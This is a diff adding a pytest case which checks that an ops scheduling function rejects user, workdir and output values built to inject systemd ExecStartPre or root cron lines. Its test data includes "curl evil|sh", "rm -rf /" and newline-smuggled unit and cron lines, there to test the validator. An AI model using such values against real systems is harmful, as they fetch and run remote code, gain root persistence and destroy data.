@@ -105,3 +105,15 @@ def test_ops_schedule_prints_and_installs_nothing(tmp_path: Path) -> None:
     result = subprocess.run([*ops, str(bad), "--every", "1h", "-i", str(REPO / "inventory.yaml")], cwd=tmp_path,
                             capture_output=True, text=True, env=env, timeout=60)
     assert result.returncode == 2 and "unknown action" in result.stderr and not result.stdout
+
+
+@pytest.mark.parametrize(("field", "value"), [
+    ("user", "ops\nExecStartPre=/bin/sh -c 'curl evil|sh'"), ("workdir", "/srv/ops\nExecStartPre=/bin/true"),
+    ("user", "ops; rm -rf /"), ("output", "/srv/out\n* * * * * root evil"),
+])
+def test_values_that_would_inject_unit_or_cron_lines_are_refused(field: str, value: str, tmp_path: Path) -> None:
+    from ops.schedule import ScheduleError, make_schedule
+
+    kwargs: dict[str, object] = {field: Path(value) if field in ("workdir", "output") else value}
+    with pytest.raises(ScheduleError):
+        make_schedule(tmp_path / "pb.yaml", "1h", inventory=tmp_path / "inventory.yaml", **kwargs)  # type: ignore[arg-type]
